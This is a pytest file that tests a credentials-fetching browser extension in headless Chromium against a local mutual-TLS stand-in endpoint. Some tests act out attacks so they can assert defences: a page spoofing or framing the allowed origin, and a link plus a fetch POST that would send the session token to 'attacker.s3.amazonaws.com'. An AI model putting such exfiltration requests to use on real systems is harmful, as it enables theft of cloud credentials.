"""The extension's behaviour in a real headless Chromium against a credentials endpoint made here.

The endpoint is a small mutual-TLS server in this test (certificates made with
`cryptography`), so each test can choose its answer and count the requests it gets:
what the extension caches, how it reports a refusal, and that pages it must not answer
cause no request at all. The policy file is the one `browser-policy` writes, installed
as is; the end-to-end run against the stand-in is tests/test_browser_e2e.py.
"""

from __future__ import annotations

import contextlib
import datetime
import http.server
import ipaddress
import json
import os
import ssl
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import pkcs12
from cryptography.x509.oid import NameOID

from tests.fixtures.browser import (
    Chromium,
    installed_chromium_policy,
    make_nss_db,
    require_chromium_tools,
    stand_in_extension,
    static_site,
)

pytestmark = [pytest.mark.browser, pytest.mark.slow]

REPO = Path(__file__).resolve().parents[1]
THING = "laptop-ext-1"
ROLE_ALIAS = "test-alias"
P12_PASSWORD = "extension-test-password"


def _name(cn: str, o: str | None = None) -> x509.Name:
    attributes = [x509.NameAttribute(NameOID.COMMON_NAME, cn)]
    if o:
        attributes.append(x509.NameAttribute(NameOID.ORGANIZATION_NAME, o))
    return x509.Name(attributes)


def _certificate(subject, key, issuer, issuer_key, *, ca=False, sans=None):
    now = datetime.datetime.now(datetime.timezone.utc)
    builder = (x509.CertificateBuilder().subject_name(subject).issuer_name(issuer).public_key(key.public_key())
               .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(minutes=5))
               .not_valid_after(now + datetime.timedelta(days=1))
               .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True))
    if ca:
        builder = builder.add_extension(x509.KeyUsage(digital_signature=True, content_commitment=False,
                                                      key_encipherment=False, data_encipherment=False,
                                                      key_agreement=False, key_cert_sign=True, crl_sign=True,
                                                      encipher_only=False, decipher_only=False), critical=True)
    if sans:
        builder = builder.add_extension(x509.SubjectAlternativeName(sans), critical=False)
    return builder.sign(issuer_key, hashes.SHA256())


def _pem(certificate) -> bytes:
    return certificate.public_bytes(serialization.Encoding.PEM)


class CredentialsEndpoint:
    """Mutual-TLS stand-in for the credentials provider; `answer` says what the next requests get."""

    def __init__(self, directory: Path):
        server_ca_key = ec.generate_private_key(ec.SECP256R1())
        server_ca = _certificate(_name("Test Endpoint CA"), server_ca_key, _name("Test Endpoint CA"), server_ca_key,
                                 ca=True)
        server_key = ec.generate_private_key(ec.SECP256R1())
        server_cert = _certificate(_name("localhost"), server_key, server_ca.subject, server_ca_key, sans=[
            x509.DNSName("localhost"), x509.IPAddress(ipaddress.ip_address("127.0.0.1"))])
        device_ca_key = ec.generate_private_key(ec.SECP256R1())
        device_ca = _certificate(_name("Test Device CA"), device_ca_key, _name("Test Device CA"), device_ca_key, ca=True)
        device_key = ec.generate_private_key(ec.SECP256R1())
        device_cert = _certificate(_name(THING, "DeviceTrust test"), device_key, device_ca.subject, device_ca_key)

        self.ca_path = directory / "endpoint-ca.pem"
        self.ca_path.write_bytes(_pem(server_ca))
        (directory / "server.pem").write_bytes(_pem(server_cert) + server_key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
        (directory / "device-ca.pem").write_bytes(_pem(device_ca))
        self.device_cert_pem = _pem(device_cert)
        self.device_key_pem = device_key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                                       serialization.NoEncryption())
        self.device_p12 = pkcs12.serialize_key_and_certificates(
            THING.encode(), device_key, device_cert, None,
            serialization.BestAvailableEncryption(P12_PASSWORD.encode()))

        self.requests: list[dict] = []
        self.answer = self.credentials(minutes=60)
        endpoint = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - http.server API
                peer = self.connection.getpeercert() or {}
                endpoint.requests.append({"path": self.path, "thing": self.headers.get("x-amzn-iot-thingname"),
                                          "subject": peer.get("subject")})
                status, body = endpoint.answer
                data = json.dumps(body).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, format, *args):  # noqa: A002
                pass

        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(directory / "server.pem")
        context.verify_mode = ssl.CERT_REQUIRED  # no client certificate, no request
        context.load_verify_locations(directory / "device-ca.pem")
        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.socket = context.wrap_socket(self._server.socket, server_side=True)
        self.address = f"localhost:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    @staticmethod
    def credentials(*, minutes: float, key: str = "ASIATESTKEY0001") -> tuple[int, dict]:
        expiration = datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(minutes=minutes)
        return 200, {"credentials": {"accessKeyId": key, "secretAccessKey": "secret-" + key, "sessionToken": "token",
                                     "expiration": expiration.strftime("%Y-%m-%dT%H:%M:%SZ")}}

    def close(self):
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def endpoint(tmp_path):
    require_chromium_tools()
    server = CredentialsEndpoint(tmp_path)
    yield server
    server.close()


@pytest.fixture
def web_port():
    with static_site(REPO / "webapp") as port:
        yield port


@contextlib.contextmanager
def browser_for(endpoint, web_port, tmp_path, edit_policy=None, extension_dir=None):
    """A device profile for the test endpoint, its policy written by browser-policy (optionally edited),
    an NSS DB with the device identity, the policy installed, and Chromium with the extension: its
    stand-in variant unless ``extension_dir`` says otherwise (the endpoint is on https://localhost)."""
    profile = tmp_path / "profile"
    profile.mkdir(mode=0o700)
    (profile / "device.crt").write_bytes(endpoint.device_cert_pem)
    (profile / "device.key").write_bytes(endpoint.device_key_pem)
    (profile / "device.key").chmod(0o600)
    (profile / "device.p12").write_bytes(endpoint.device_p12)
    (profile / "device.json").write_text(json.dumps({
        "thingName": THING, "certificateId": "0" * 64, "certificateArn": "arn:aws:iot:us-east-1:123456789012:cert/x",
        "credentialsEndpoint": endpoint.address, "roleAlias": ROLE_ALIAS, "region": "us-east-1",
        "stackName": "DeviceTrust-local", "environment": "local", "notAfter": "2030-01-01T00:00:00Z"}))
    result = subprocess.run(
        [sys.executable, "-m", "provisioner", "browser-policy", "--os", "linux", "--profile-dir", str(profile),
         "--output-dir", str(tmp_path / "policies"), "--allowed-origin", f"http://127.0.0.1:{web_port}"],
        cwd=REPO, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL,
        env={k: v for k, v in os.environ.items() if not k.startswith("AWS_")})
    assert result.returncode == 0, result.stderr
    policy_file = tmp_path / "policies" / "device-trust-local.json"
    if edit_policy is not None:
        policy_file.write_text(json.dumps(edit_policy(json.loads(policy_file.read_text()))))
    home = tmp_path / "home"
    make_nss_db(home, pkcs12_path=profile / "device.p12", pkcs12_password=P12_PASSWORD, ca_path=endpoint.ca_path)
    with installed_chromium_policy(policy_file):
        if extension_dir is None:
            extension_dir = stand_in_extension(tmp_path / "extension-stand-in")
        browser = Chromium(home=home, user_data_dir=tmp_path / "chromium", extension_dir=extension_dir,
                           log_path=tmp_path / "chromium.log")
        try:
            browser.wait_for_target(lambda t: t["type"] == "service_worker" and "/service_worker.js" in t["url"])
            yield browser
        finally:
            browser.close()


@pytest.fixture
def browser_env(endpoint, web_port, tmp_path):
    with browser_for(endpoint, web_port, tmp_path) as browser:
        yield browser, web_port


def ask(browser: Chromium, url: str, *, times: int = 1, timeout_ms: int = 10000, script: str | None = None):
    """Open ``url`` and ask the extension ``times`` times through the page's documented protocol."""
    page = browser.open_page(url)
    page.wait_for("document.readyState === 'complete' && !!window.deviceTrustDemo")
    expression = script or (
        "(async () => { const out = []; for (let i = 0; i < %d; i++) {"
        " out.push(await window.deviceTrustDemo.requestCredentials({timeoutMs: %d})"
        ".then(c => ({credentials: c}), e => ({error: e}))); } return out; })()" % (times, timeout_ms))
    return page.evaluate(expression, timeout=times * timeout_ms / 1000 + 30)


def test_extension_fetches_with_the_device_certificate_and_serves_repeat_requests_from_memory(browser_env, endpoint):
    browser, port = browser_env
    answers = ask(browser, f"http://127.0.0.1:{port}/index.html", times=3)
    assert [a["credentials"]["accessKeyId"] for a in answers] == ["ASIATESTKEY0001"] * 3, answers
    assert len(endpoint.requests) == 1, "cached in memory until shortly before expiry"
    request = endpoint.requests[0]
    assert request["path"] == f"/role-aliases/{ROLE_ALIAS}/credentials"
    assert request["thing"] == THING
    assert dict(pair[0] for pair in request["subject"])["commonName"] == THING  # the device certificate, by policy


def test_credentials_close_to_expiry_are_fetched_again(browser_env, endpoint):
    browser, port = browser_env
    endpoint.answer = endpoint.credentials(minutes=4, key="ASIASHORTLIVED01")  # inside the 5-minute margin
    answers = ask(browser, f"http://127.0.0.1:{port}/index.html", times=2)
    assert all(a["credentials"]["accessKeyId"] == "ASIASHORTLIVED01" for a in answers), answers
    assert len(endpoint.requests) == 2


def test_endpoint_refusal_reaches_the_page_as_an_error_object_with_awss_message(browser_env, endpoint):
    browser, port = browser_env
    endpoint.answer = (403, {"message": "Access Denied"})
    [answer] = ask(browser, f"http://127.0.0.1:{port}/index.html")
    assert answer == {"error": {"code": "credentials-refused",
                                "message": "the credentials endpoint answered 403: Access Denied"}}


def test_page_on_another_origin_gets_no_answer_and_causes_no_request(browser_env, endpoint):
    browser, port = browser_env
    [answer] = ask(browser, f"http://localhost:{port}/index.html", timeout_ms=6000)
    assert answer["error"]["code"] == "no-answer"  # the demo page's own timeout: the extension said nothing
    assert endpoint.requests == []


def test_page_cannot_borrow_an_allowed_origin_by_claiming_it_or_by_framing_it(browser_env, endpoint):
    browser, port = browser_env
    allowed = f"http://127.0.0.1:{port}"
    # A page on another origin that says it is the allowed one, and that frames the allowed page.
    script = """(async () => {
      const heard = [];
      window.addEventListener("message", (e) => { if (e.data && e.data.type !== "device-trust:get-credentials") heard.push(e.data); });
      window.postMessage({type: "device-trust:get-credentials", id: "claim", origin: %s, sender: {origin: %s}}, "*");
      const frame = document.createElement("iframe");
      frame.src = %s;
      document.body.appendChild(frame);
      await new Promise((resolve) => frame.addEventListener("load", resolve));
      frame.contentWindow.postMessage({type: "device-trust:get-credentials", id: "framed"}, "*");
      await new Promise((resolve) => setTimeout(resolve, 6000));
      return heard;
    })()""" % (json.dumps(allowed), json.dumps(allowed), json.dumps(allowed + "/index.html"))
    heard = ask(browser, f"http://localhost:{port}/index.html", script=script)
    assert heard == []
    assert endpoint.requests == []


def test_certificate_is_presented_only_when_the_policy_filter_names_it(endpoint, web_port, tmp_path):
    # The same laptop, but the policy names another certificate: Chromium presents none, the mutual-TLS
    # handshake fails, and the page hears why. (It is the policy, not luck, that picks the certificate.)
    def other_laptop(policy):
        entry = json.loads(policy["AutoSelectCertificateForUrls"][0])
        entry["filter"]["SUBJECT"]["CN"] = "some-other-laptop"
        return {**policy, "AutoSelectCertificateForUrls": [json.dumps(entry)]}

    with browser_for(endpoint, web_port, tmp_path, edit_policy=other_laptop) as browser:
        [answer] = ask(browser, f"http://127.0.0.1:{web_port}/index.html")
    assert answer["error"]["code"] == "network-error", answer
    assert endpoint.requests == []


def test_shipped_extension_does_not_call_an_endpoint_on_localhost(endpoint, web_port, tmp_path):
    # The same laptop and policy with extension/ as shipped: its manifest names only the AWS IoT credentials
    # endpoints, so it refuses https://localhost (the stand-in variant is for that). Chrome alone would let
    # it through: the content scripts' match patterns (every https page) count as host access.
    with browser_for(endpoint, web_port, tmp_path, extension_dir=REPO / "extension") as browser:
        [answer] = ask(browser, f"http://127.0.0.1:{web_port}/index.html")
    assert answer == {"error": {"code": "endpoint-not-permitted", "message": (
        f"this extension may not fetch from {endpoint.address}: its manifest's host_permissions do not name it")}}
    assert endpoint.requests == [], "no request reached the endpoint"


def test_demo_page_refuses_an_sts_endpoint_from_its_link_and_its_csp_blocks_other_aws_hosts(browser_env, endpoint):
    # A link that names another STS endpoint would make the page post the signed request and the session token
    # there: the page refuses it before asking the extension, and its CSP would block the request anyway.
    browser, web_port = browser_env
    page = browser.open_page(f"http://127.0.0.1:{web_port}/index.html?sts=https://attacker.s3.amazonaws.com")
    page.wait_for("document.readyState === 'complete' && !!window.deviceTrustDemo")
    result = page.evaluate("window.deviceTrustDemo.run({timeoutMs: 10000})", timeout=40)
    assert result["ok"] is False and result["error"]["code"] == "bad-setting", result
    assert page.evaluate("document.getElementById('status').textContent").startswith("bad-setting: sts ")
    assert endpoint.requests == [], "the extension was not asked for credentials"
    blocked = page.evaluate("""new Promise(resolve => {
        document.addEventListener("securitypolicyviolation", (e) => resolve(e.blockedURI), {once: true});
        fetch("https://attacker.s3.amazonaws.com/", {method: "POST", body: "x"}).catch(() => {});
        setTimeout(() => resolve(null), 5000);
    })""", timeout=30)
    assert blocked and blocked.startswith("https://attacker.s3.amazonaws.com"), blocked
